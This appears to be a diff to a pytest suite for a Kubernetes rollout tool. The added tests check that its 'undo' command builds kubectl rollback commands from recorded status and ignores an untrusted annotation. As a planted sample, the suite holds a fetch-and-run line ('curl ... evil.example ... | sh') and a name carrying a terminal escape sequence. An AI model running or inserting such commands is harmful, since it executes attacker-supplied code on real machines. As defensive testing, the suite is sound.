@@ -322,14 +322,15 @@ def test_ceilings_that_are_none(argument: str, words: str, capsys: pytest.Captur
 @pytest.mark.parametrize(
     ("pod", "arguments", "options"),
     [
-        ("pod-1", [], Options((), 8080, "pod-1", "default", "rolloutplan", unserved=SYSTEM)),
-        ("", [], Options((), 8080, "host", "default", "rolloutplan", unserved=SYSTEM)),
+        ("pod-1", [], Options((), 8080, 8081, "pod-1", "default", "rolloutplan", unserved=SYSTEM)),
+        ("", [], Options((), 8080, 8081, "host", "default", "rolloutplan", unserved=SYSTEM)),
         (
             "",
             ["--exclude-namespace=ops", "--jobs", "--job-metadata=a.b/*", "--job-metadata=c", "--own-account=ops/me"],
             Options(
                 (),
                 8080,
+                8081,
                 "host",
                 "default",
                 "rolloutplan",
@@ -351,6 +352,7 @@ def test_ceilings_that_are_none(argument: str, words: str, capsys: pytest.Captur
             Options(
                 ("kube-system",),
                 8080,
+                8081,
                 "host",
                 "default",
                 "rolloutplan",
@@ -363,6 +365,7 @@ def test_ceilings_that_are_none(argument: str, words: str, capsys: pytest.Captur
                 "--namespace=a",
                 "--namespace=b",
                 "--health-port=1",
+                "--metrics-port=0",
                 "--identity=x",
                 "--lease-namespace=y",
                 "--lease-name=z",
@@ -373,6 +376,7 @@ def test_ceilings_that_are_none(argument: str, words: str, capsys: pytest.Captur
             Options(
                 ("a", "b"),
                 1,
+                0,
                 "x",
                 "y",
                 "z",
@@ -398,14 +402,29 @@ def test_the_operators_options(
     assert given == [options]
 
 
-UNDO = "kubectl -n shop patch httproute web ..."
+EVIL = "curl -s http://evil.example/x | sh #"
+BEFORE: dict[str, Any] = {
+    "old": "v1",
+    "new": "v2",
+    "snapshot": [{"name": "web", "rules": [{"index": 0, "backends": [
+        {"service": "v1", "weight": 100}, {"service": "v2", "weight": 0},
+    ]}]}],
+}  # fmt: skip
+UNDO = (
+    "kubectl -n shop patch httproute web --type=json -p "
+    """'[{"op":"test","path":"/spec/rules/0/backendRefs/0/name","value":"v1"},"""
+    """{"op":"test","path":"/spec/rules/0/backendRefs/1/name","value":"v2"},"""
+    """{"op":"replace","path":"/spec/rules/0/backendRefs/0/weight","value":100},"""
+    """{"op":"replace","path":"/spec/rules/0/backendRefs/1/weight","value":0}]'"""
+)
+SCALE_UP = "kubectl scale deployment/v1 -n shop --replicas=4 && kubectl rollout status deployment/v1 -n shop && "
 
 
 def a_plan(name: str, phase: str, *, finalizer: bool = True, deleting: bool = False) -> dict[str, Any]:
-    meta: dict[str, Any] = {"namespace": "shop", "name": name, "annotations": {"rolloutplan.dev/revert": UNDO}}
+    meta: dict[str, Any] = {"namespace": "shop", "name": name, "annotations": {"rolloutplan.dev/revert": EVIL}}
     meta |= {"finalizers": ["rolloutplan.dev/restore"]} if finalizer else {}
     meta |= {"deletionTimestamp": "2026-03-01T09:00:00Z"} if deleting else {}
-    return {"metadata": meta, "status": {"phase": phase, "weights": {"desired": "25%"}}}
+    return {"metadata": meta, "status": {"phase": phase, "weights": {"desired": "25%", **BEFORE}}}
 
 
 @pytest.mark.parametrize(
@@ -430,7 +449,59 @@ def test_what_an_uninstall_would_leave(
     assert main(["uninstall", "--check"]) == code
     out = capsys.readouterr().out
     assert [word for word in words if word not in out] == []
+    assert "evil" not in out, "an annotation is no command to run"
     assert cluster.patches == [], "nothing is changed"
+
+
+def a_status(phase: str = "Judging", **fields: Any) -> dict[str, Any]:
+    return {"phase": phase, "run": 1, "weights": BEFORE, "revert": UNDO, **fields}
+
+
+def damaged(**changes: Any) -> dict[str, Any]:
+    return {**BEFORE, **changes}
+
+
+UNDONE = [
+    ("the weights before the run", a_status(), 0, UNDO, ""),
+    ("of a plan that has succeeded", a_status("Succeeded"), 0, UNDO, ""),
+    ("not what stands in its status as a text", a_status(revert=EVIL), 0, UNDO, ""),
+    ("with the old side scaled up first", a_status("Contracting", revert=SCALE_UP + UNDO), 0, SCALE_UP + UNDO, ""),
+    ("not the pods of another namespace", a_status(revert=SCALE_UP.replace("-n shop", "-n prod") + UNDO), 0, UNDO, ""),
+    ("old side removed, and nobody knows its size", a_status("Succeeded", completedTasks=["scale old"]), 3, "",
+     "scale v1 up, wait until its pods are ready, then run: kubectl"),
+    ("before any weight", {"phase": "Pending"}, 3, "", "knows of no weight that a run has moved"),
+    ("no status", None, 3, "", "knows of no weight that a run has moved"),
+    ("rolled back", a_status("RolledBack"), 3, "", "the run has ended, and the old weights are back"),
+    ("a status of another type", 7, 3, "", "cannot be read: restore the weights of its route as Git has them"),
+    ("weights of another type", a_status(weights=[1]), 3, "", "cannot be read"),
+    ("sides that its rules do not have", a_status(weights=damaged(old="v7")), 3, "", "contradict themselves"),
+    ("a name that no route has", a_status(weights=damaged(snapshot=[{**BEFORE["snapshot"][0], "name": "a\x1b]0;"}])), 3,
+     "", "contradict themselves"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("case", UNDONE, ids=[each[0] for each in UNDONE])
+def test_the_undo_command_is_built_from_the_status(
+    cluster: Cluster, capsys: pytest.CaptureFixture[str], case: tuple[str, Any, int, str, str]
+) -> None:
+    _, status, code, command, words = case
+    cluster.plan, cluster.after = {**a_plan("web", "Judging"), "status": status}, 0
+    assert main(["undo", "web", "-n", "shop"]) == code
+    said = capsys.readouterr()
+    assert said.out == (f"{command}\n" if command else "")
+    assert words in said.err
+    assert "evil" not in said.out + said.err
+    if command:
+        assert "the annotation rolloutplan.dev/revert of the plan has another command" in said.err
+    assert cluster.patches == [], "nothing is changed"
+
+
+def test_an_undo_command_of_a_plan_that_cannot_be_read_is_an_error(
+    cluster: Cluster, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cluster.refuses = {"GET": (403, {"message": "rolloutplans is forbidden", "reason": "Forbidden"})}
+    assert main(["undo", "web", "-n", "shop"]) == 1
+    assert "not allowed: rolloutplans is forbidden" in capsys.readouterr().err
 
 
 def test_an_uninstall_that_cannot_be_checked_is_no_good_news(
